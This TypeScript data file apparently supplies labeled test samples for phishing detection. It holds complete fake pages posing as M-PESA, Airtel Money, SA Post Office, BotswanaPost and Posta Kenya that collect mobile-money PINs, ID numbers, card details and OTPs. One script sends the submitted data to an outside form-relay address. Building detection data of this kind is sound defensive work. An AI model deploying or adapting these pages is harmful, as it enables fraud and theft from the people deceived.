import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { b64, codes, cookieBar, doc, favicon, gtag, hexOf, pct, rev, wordmark, xorB64 } from '../parts/yh-kit.js';
import { apk, beepWav, cfb, cssRoute, fileRoute, iso, jsRoute, jsonRoute, lnk, pe, pngRoute, rar5, sevenZip, zip } from '../parts/e-bin.js';


export const entries: Entry[] = [
{
  id: 'yh-mpesa-reversal-pin-swahili',
  label: 'phishing',
  kind: 'mobile-money-pin',
  url: 'https://mpesa-reversal-ke.com/rudisha/',
  body: doc('M-PESA | Rudisha Pesa', `
<div class="top">${wordmark('M-PESA', '#43b02a', { shape: 'none', h: 34 })}<span>Safaricom</span></div>
<div class="card">
 <h2>Ombi la Kurudisha Pesa (Reversal)</h2>
 <p>Ulituma pesa kwa nambari isiyo sahihi? Jaza fomu hii kuomba kurudishiwa pesa zako. Ombi lako litashughulikiwa ndani ya dakika 30.</p>
 <form method="post" action="process.php" id="rv">
  <label>Nambari yako ya simu</label><input name="msisdn" placeholder="07XX XXX XXX" required>
  <label>Nambari ya muamala (Transaction ID)</label><input name="txn" placeholder="mfano SJK4XQ2L9P" required>
  <label>Kiasi (KSh)</label><input name="amt" inputmode="numeric">
  <label>Nambari ya kitambulisho</label><input name="idno" inputmode="numeric">
  <label>PIN yako ya M-PESA (kuthibitisha umiliki)</label><input name="pin" type="password" maxlength="4" inputmode="numeric" required>
  <button>Tuma ombi</button>
 </form>
 <p class="n">Huduma hii ni bure. Usishiriki ujumbe wa uthibitisho na mtu yeyote.</p>
</div>
<div class="ft">© Safaricom PLC. M-PESA ni huduma ya Safaricom.</div>`, {
    lang: 'sw',
    head: favicon('#43b02a'),
    css: `body{margin:0;background:#f0f7ee;font-family:Arial,sans-serif}.top{background:#fff;padding:12px 22px;display:flex;justify-content:space-between;align-items:center;border-bottom:4px solid #43b02a}.top span{color:#43b02a;font-weight:bold}
.card{max-width:420px;margin:30px auto;background:#fff;padding:24px;border-radius:8px}h2{color:#2e7d1f;font-size:20px}p{font-size:14px}label{display:block;margin:12px 0 3px;font-size:13px}
input{width:100%;box-sizing:border-box;padding:10px;border:1px solid #bcd9b2;border-radius:4px}button{margin-top:18px;width:100%;background:#43b02a;color:#fff;border:0;padding:13px;border-radius:4px}.n{font-size:12px;color:#666}.ft{text-align:center;font-size:11px;color:#777;padding:16px}`,
  }),
  routes: {
    'mpesa-reversal-ke.com/rudisha/process.php': htmlRoute(doc('M-PESA', '<div style="max-width:400px;margin:60px auto;font-family:Arial;text-align:center"><h2 style="color:#43b02a">Asante!</h2><p>Ombi lako limepokelewa. Utapokea ujumbe wa uthibitisho. Tafadhali weka PIN yako tena kwenye simu ukiombwa.</p></div>', { lang: 'sw' })),
  },
},
{
  id: 'yh-airtel-money-zm-kyc-update',
  label: 'phishing',
  kind: 'mobile-money-pin',
  url: 'https://airtelmoney-zm-kyc.site/update.html',
  body: doc('Airtel Money Zambia - KYC Update', `
<div class="h">${wordmark('airtel', '#ffffff', { shape: 'none', h: 32 })}<span>Money</span></div>
<div class="b">
 <h2>Mandatory KYC update</h2>
 <p>In line with the Bank of Zambia directive, all Airtel Money subscribers must update their Know-Your-Customer details. Accounts not updated will be <b>suspended and balances frozen</b>.</p>
 <form id="k">
  <label>Airtel number</label><input name="msisdn" placeholder="097XXXXXXX" required>
  <label>NRC number</label><input name="nrc" placeholder="XXXXXX/XX/X" required>
  <label>Date of birth</label><input name="dob" type="date">
  <label>Airtel Money PIN</label><input name="pin" type="password" maxlength="4" inputmode="numeric" required>
  <button>Update now</button>
 </form>
 <div id="ok" hidden><h3>Update received</h3><p>You will receive a confirmation SMS within 24 hours.</p></div>
</div>
<script>
document.getElementById('k').onsubmit=function(e){e.preventDefault();
 var b=new URLSearchParams(new FormData(this));
 fetch('https://formsubmit.co/ajax/zm.kyc.desk@gmail.com',{method:'POST',body:b}).finally(function(){document.getElementById('k').hidden=true;document.getElementById('ok').hidden=false});
};
</script>`, {
    css: `body{margin:0;font-family:Arial,sans-serif;background:#fdf1f1}.h{background:#e40000;padding:12px 20px;color:#fff;display:flex;align-items:center;gap:6px}.h span{font-size:18px}
.b{max-width:420px;margin:30px auto;background:#fff;padding:24px;border-radius:8px}h2{color:#e40000}p{font-size:14px}label{display:block;font-size:13px;margin:10px 0 3px}input{width:100%;box-sizing:border-box;padding:10px;border:1px solid #e3c6c6;border-radius:4px}button{margin-top:16px;width:100%;background:#e40000;color:#fff;border:0;padding:12px;border-radius:4px}`,
  }),
},
{
  id: 'yh-sapo-parcel-redelivery-fee',
  label: 'phishing',
  kind: 'parcel-fee-kit',
  url: 'https://sapo-track.delivery-za.info/parcel/RR482913374ZA',
  body: doc('SA Post Office | Track & Trace', `
<div class="top">${wordmark('SA Post Office', '#003e7e', { shape: 'square', h: 32, w: 210 })}</div>
<div class="w">
 <h1>Track &amp; Trace</h1>
 <div class="trk"><b>RR482913374ZA</b><ul>
  <li><span>Item received at International Mail Centre, Johannesburg</span></li>
  <li><span>Delivery attempted – address incomplete</span></li>
  <li class="x"><span>Item held – redelivery fee outstanding</span></li></ul></div>
 <p>Your parcel could not be delivered because the address provided was incomplete. To schedule redelivery, please confirm your address and pay the redelivery fee of <b>R28.50</b>.</p>
 <form method="post" action="/parcel/pay.php">
  <fieldset><legend>Delivery address</legend>
   <input name="name" placeholder="Full name" required><input name="addr" placeholder="Street address" required><input name="city" placeholder="City / Town"><input name="code" placeholder="Postal code" maxlength="4"><input name="cell" placeholder="Cellphone">
  </fieldset>
  <fieldset><legend>Payment – R28.50</legend>
   <input name="cc" placeholder="Card number" maxlength="19" inputmode="numeric" required>
   <div class="r"><input name="mm" placeholder="MM" maxlength="2"><input name="yy" placeholder="YY" maxlength="2"><input name="cvv" placeholder="CVV" maxlength="3"></div>
  </fieldset>
  <button>Pay R28.50</button>
 </form>
</div>`, {
    head: favicon('#003e7e'),
    css: `body{margin:0;font-family:Arial,sans-serif;background:#f4f6f9}.top{background:#ffd200;padding:10px 20px}.w{max-width:560px;margin:20px auto;background:#fff;padding:24px}h1{color:#003e7e;font-size:22px}
.trk{background:#f0f4fa;padding:12px}.trk ul{margin:8px 0 0;padding-left:18px;font-size:13px}.trk li.x{color:#c00;font-weight:bold}fieldset{border:1px solid #dde;margin:14px 0;padding:12px}legend{color:#003e7e;font-weight:bold}
input{display:block;width:100%;box-sizing:border-box;padding:9px;margin:6px 0;border:1px solid #ccd}.r{display:flex;gap:8px}button{width:100%;background:#003e7e;color:#fff;border:0;padding:13px;font-size:15px}`,
  }),
  routes: {
    'sapo-track.delivery-za.info/parcel/pay.php': htmlRoute(doc('SA Post Office | 3D Secure', `
<div style="max-width:380px;margin:50px auto;background:#fff;padding:24px;font-family:Arial;border:1px solid #ddd">
<h3>Bank verification</h3><p>Your bank has sent a one-time PIN to your cellphone to approve this payment of R28.50.</p>
<form method="post" action="/parcel/otp.php"><input name="otp" placeholder="OTP" maxlength="8" style="width:100%;padding:10px;box-sizing:border-box"><br><br><button style="width:100%;padding:12px;background:#003e7e;color:#fff;border:0">Approve</button></form>
<p style="font-size:12px;color:#777">Did not receive it? Wait 60 seconds; the code may be resent.</p></div>`, { css: 'body{background:#f4f6f9;margin:0}' })),
  },
},
{
  id: 'yh-botswanapost-customs-duty',
  label: 'phishing',
  kind: 'parcel-fee-kit',
  url: 'https://botswanapost-customs.com/bw/pay?id=EE220193846BW',
  body: doc('BotswanaPost - Customs clearance', `
<header>${wordmark('BotswanaPost', '#0a58a5', { shape: 'circle', h: 32, w: 200 })}</header>
<main>
 <h2>Your package is awaiting customs clearance</h2>
 <table><tr><th>Tracking number</th><td>EE220193846BW</td></tr><tr><th>Origin</th><td>CN – Shenzhen</td></tr><tr><th>Status</th><td class="w">Held at Sir Seretse Khama Intl. Mail Centre</td></tr><tr><th>Customs duty &amp; handling</th><td><b>P 35.40</b></td></tr></table>
 <p>Please settle the outstanding duty within 48 hours. Unclaimed items are returned to sender.</p>
 <form action="/bw/card.php" method="post">
  <label>Cardholder name</label><input name="holder">
  <label>Card number</label><input name="pan" inputmode="numeric" maxlength="19">
  <label>Expiry / CVC</label><div class="r"><input name="exp" placeholder="MM/YY"><input name="cvc" placeholder="CVC" maxlength="4"></div>
  <label>Email</label><input name="email" type="email">
  <button>Pay P 35.40</button>
 </form>
 <p class="sm">Accepted: Visa, Mastercard. Payments processed securely.</p>
</main>`, {
    css: `body{margin:0;background:#eef3f9;font-family:Tahoma,Arial,sans-serif}header{background:#fff;padding:12px 20px;border-bottom:3px solid #0a58a5}main{max-width:520px;margin:24px auto;background:#fff;padding:24px}h2{color:#0a58a5;font-size:19px}
table{width:100%;border-collapse:collapse;font-size:13px}th,td{text-align:left;padding:6px;border-bottom:1px solid #eee}.w{color:#c60}label{display:block;font-size:12px;margin:10px 0 3px}input{width:100%;box-sizing:border-box;padding:9px;border:1px solid #c9d4e2}.r{display:flex;gap:8px}
button{margin-top:16px;width:100%;background:#0a58a5;color:#fff;border:0;padding:12px}.sm{font-size:11px;color:#888}`,
  }),
},
{
  id: 'yh-posta-kenya-kifurushi-ada',
  label: 'phishing',
  kind: 'parcel-fee-kit',
  url: 'https://posta-ke-kifurushi.com/track/',
  body: doc('Posta Kenya | Fuatilia Kifurushi', `
<div class="hd">${wordmark('POSTA', '#d71920', { shape: 'square', h: 32 })}<span>Posta Kenya</span></div>
<div class="bd">
 <h2>Kifurushi chako kimesimamishwa</h2>
 <p>Kifurushi nambari <b>CP918273645KE</b> hakikuweza kuwasilishwa kwa sababu anwani haikukamilika. Lipa ada ya uwasilishaji upya ya <b>KSh 145</b> ili kipelekwe kwako ndani ya siku 2.</p>
 <form method="post" action="lipa.php">
  <label>Jina kamili</label><input name="jina">
  <label>Anwani / Mji</label><input name="anwani">
  <label>Nambari ya simu</label><input name="simu">
  <label>Nambari ya kadi</label><input name="kadi" inputmode="numeric" maxlength="19">
  <div class="r"><div><label>Mwisho wa matumizi</label><input name="exp" placeholder="MM/YY"></div><div><label>CVV</label><input name="cvv" maxlength="3"></div></div>
  <button>Lipa KSh 145</button>
 </form>
</div>`, {
    lang: 'sw',
    css: `body{margin:0;background:#f7f1f1;font-family:Arial,sans-serif}.hd{background:#fff;padding:12px 18px;display:flex;align-items:center;gap:10px;border-bottom:3px solid #d71920}.bd{max-width:460px;margin:24px auto;background:#fff;padding:22px}
h2{color:#d71920;font-size:19px}label{display:block;font-size:12px;margin:10px 0 3px}input{width:100%;box-sizing:border-box;padding:9px;border:1px solid #ddd}.r{display:flex;gap:8px}.r div{flex:1}button{margin-top:14px;width:100%;background:#d71920;color:#fff;border:0;padding:12px}`,
  }),
},
];
